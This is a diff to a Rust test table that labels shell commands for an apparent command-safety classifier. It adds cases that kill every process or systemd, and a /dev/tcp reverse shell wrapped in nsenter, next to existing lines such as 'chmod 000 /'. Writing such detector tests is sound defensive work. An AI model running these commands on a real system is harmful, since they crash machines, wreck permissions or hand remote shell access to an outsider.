@@ -702,6 +702,23 @@ const PROCESSES_PERMISSIONS_CONNECTIONS: &[(&str, Option<&str>)] = &[
     ("kill -9 +1", Some("kill_all")),
     ("kill -0 -s 9 -1", Some("kill_all")),
     ("kill -l 1", None),
+    // Process listings handed to kill: every process, or init by name.
+    ("kill -9 $(pgrep .)", Some("kill_all")),
+    ("kill -9 $(pidof systemd)", Some("kill_all")),
+    ("kill $(pidof node)", None),
+    ("kill $(pgrep -f 'vite dev')", None),
+    ("ps aux | awk '{print $2}' | xargs kill -9", Some("kill_all")),
+    ("ps -e -o pid= | xargs kill", Some("kill_all")),
+    ("ps aux | awk 'NR>1 {print $2}' | xargs kill -9", Some("kill_all")),
+    ("ps aux | grep '[n]ode server' | awk '{print $2}' | xargs kill", None),
+    ("pgrep -f webpack | xargs kill", None),
+    ("pgrep . | xargs kill -9", Some("kill_all")),
+    ("ps aux | awk '{print $2}' | xargs echo", None),
+    // Shells behind wrappers still meet the connection check.
+    (
+        "exec 3<>/dev/tcp/h/1; nsenter -t 1 -m -- bash <&3 >&3",
+        Some("reverse_shell"),
+    ),
     ("pkill -u root -v x", Some("kill_all")),
     ("chmod -x /usr/bin/sudo", Some("system_change")),
     ("chmod 000 /", Some("system_change")),
